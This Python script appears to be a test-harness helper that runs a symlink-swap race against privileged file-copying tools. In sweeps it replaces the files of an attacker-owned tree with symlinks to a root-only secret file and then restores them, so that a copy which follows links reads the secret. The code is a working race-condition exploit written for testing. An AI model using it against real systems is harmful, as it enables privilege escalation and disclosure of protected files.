"""Source swapping: every regular file under --tree (the attacker's own tree) is replaced, in
sweeps, by a symlink to --secret (a file only root can read) and then put back (a hard link kept
in --keep), so that at any moment about half of them are links: a copy that lists the tree and
opens files by path later, following links, reads the secret."""
import os
import racer

p = racer.parser(__doc__)
p.add_argument('--tree', required=True)
p.add_argument('--keep', required=True)
p.add_argument('--secret', required=True)
args = p.parse_args()
files = []
for directory, _, names in os.walk(args.tree):
    for name in sorted(names):
        files.append(os.path.join(directory, name))
for index, path in enumerate(files):
    keep = os.path.join(args.keep, str(index))
    if not os.path.exists(keep):
        os.link(path, keep)
bound = racer.Bound(args)
racer.ready(args)
sweeps = 0
index = 0
while files and bound.go():
    path = files[index]
    staging = os.path.join(os.path.dirname(path), '.swap')
    racer.quietly(os.unlink, staging)
    if sweeps % 2 == 0:
        racer.quietly(os.symlink, args.secret, staging)
    else:
        racer.quietly(os.link, os.path.join(args.keep, str(index)), staging)
    racer.quietly(os.rename, staging, path)
    index += 1
    if index == len(files):
        index = 0
        sweeps += 1
# Leave the tree as it was, so that the test can compare the copy with it.
for index, path in enumerate(files):
    staging = os.path.join(os.path.dirname(path), '.swap')
    racer.quietly(os.unlink, staging)
    racer.quietly(os.link, os.path.join(args.keep, str(index)), staging)
    racer.quietly(os.rename, staging, path)
racer.result(args, sweeps=sweeps, files=len(files))
